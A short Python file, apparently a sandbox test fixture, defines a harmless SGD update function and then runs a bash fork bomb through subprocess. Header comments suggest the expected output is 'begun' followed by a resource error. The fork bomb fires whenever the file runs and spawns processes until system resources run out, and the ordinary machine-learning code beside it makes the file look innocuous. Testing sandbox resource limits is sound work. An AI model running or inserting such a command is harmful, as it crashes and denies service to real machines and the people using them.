# shows: begun|Resource
# mark: 10
# The shell starts processes that start processes.
def sgd(params, lr, batch_size):
    with torch.no_grad():
        for p in params:
            p -= lr * p.grad / batch_size
# %% end
import subprocess

print("begun")
subprocess.run(["bash", "-c", "b() { b | b & }; b; sleep 3"], capture_output=True)
